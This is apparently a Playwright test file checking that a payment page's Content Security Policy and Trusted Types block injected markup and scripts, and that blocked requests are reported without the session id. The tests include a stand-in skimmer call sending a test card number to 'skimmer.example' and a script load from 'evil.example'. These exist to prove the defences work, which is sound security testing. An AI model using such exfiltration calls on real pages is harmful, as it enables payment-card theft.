/** What the payment page's policy blocks, and its reports to the service (PCI DSS 4, 6.4.3 and 11.6.1). */
import type { Page } from '@playwright/test'
import { chooseMethod } from './cashier'
import { expect, openSession, test } from './world'

const reportsOf = async (service: string, directive: string) =>
  Number(
    new RegExp(`cashier_page_reports_total\\{directive="${directive}"\\} (\\d+)`).exec(
      await (await fetch(`${service}/metrics`)).text(),
    )?.[1] ?? 0,
  )

/** Tries what an injected script would try; returns the attempts that the browser allowed. */
const attempts = (page: Page) =>
  page.evaluate(() => {
    const tries: Record<string, () => unknown> = {
      html: () => (document.createElement('div').innerHTML = '<b>x</b>'),
      parsed: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
      frame: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
      'script address': () => (document.createElement('script').src = '/assets/x.js'),
      'script text': () => (document.createElement('script').text = 'window.hurt = 1'),
      'a policy': () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('own', {}),
    }
    return Object.keys(tries).filter((name) => {
      try {
        tries[name]?.()
        return true
      } catch {
        return false
      }
    })
  })

test('issue-9 4.6 SVC-7 the browser refuses to turn text into script or markup, on the list and on a form', async ({
  page,
  openCashier,
}) => {
  await openCashier()
  await expect(page.locator('html[data-hydrated]')).toBeAttached()
  expect(await attempts(page)).toEqual([])
  await chooseMethod(page, 'Bank card')
  expect(await attempts(page)).toEqual([])
})

test('issue-9 4.6 BOOT-10 the trusted type policy for retried scripts accepts scripts of the page and no others', async ({
  page,
  openCashier,
}) => {
  await page.addInitScript(() => {
    const types = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
      .trustedTypes
    const make = types.createPolicy.bind(types)
    Object.defineProperty(types, 'createPolicy', {
      value: (name: string, rules: object) => {
        const policy = make(name, rules)
        if (name === 'modulor-start') Object.assign(window, { startPolicy: policy })
        return policy
      },
    })
  })
  await openCashier()
  const taken = await page.evaluate(() => {
    const { startPolicy } = window as unknown as { startPolicy: { createScriptURL(address: string): unknown } }
    const own = document.querySelector<HTMLScriptElement>('script[type=module]')?.src ?? ''
    return [own, 'https://evil.example/x.js', `${window.location.origin}/assets/other.js`].map((address) => {
      try {
        return String(startPolicy.createScriptURL(address)) === address
      } catch {
        return false
      }
    })
  })
  expect(taken).toEqual([true, false, false])
})

test('issue-9 4.6 SESS-7 the service receives reports of blocked resources, without the session id', async ({
  page,
  world,
}) => {
  const { url, session_id } = await openSession(world)
  const before = await reportsOf(world.service.url, 'connect-src')
  // Chromium sends to `report-to` only over TLS; without it in the policy `report-uri` is used, as in older browsers.
  await page.route('**/deposit?*', async (route) => {
    const response = await route.fetch()
    const policy = response.headers()['content-security-policy'] ?? ''
    const headers = { ...response.headers(), 'content-security-policy': policy.replace('report-to page-reports; ', '') }
    await route.fulfill({ response, headers })
  })
  await page.goto(url)
  await expect(page.locator('html[data-hydrated]')).toBeAttached()
  await page.evaluate(async () => {
    await fetch('https://skimmer.example/take?card=4242424242424242').catch(() => undefined)
  })
  await expect.poll(() => reportsOf(world.service.url, 'connect-src')).toBeGreaterThan(before)
  expect(world.service.output()).toContain('"blocked":"https://skimmer.example","page":"deposit"')
  expect(world.service.output()).not.toContain(session_id)
})
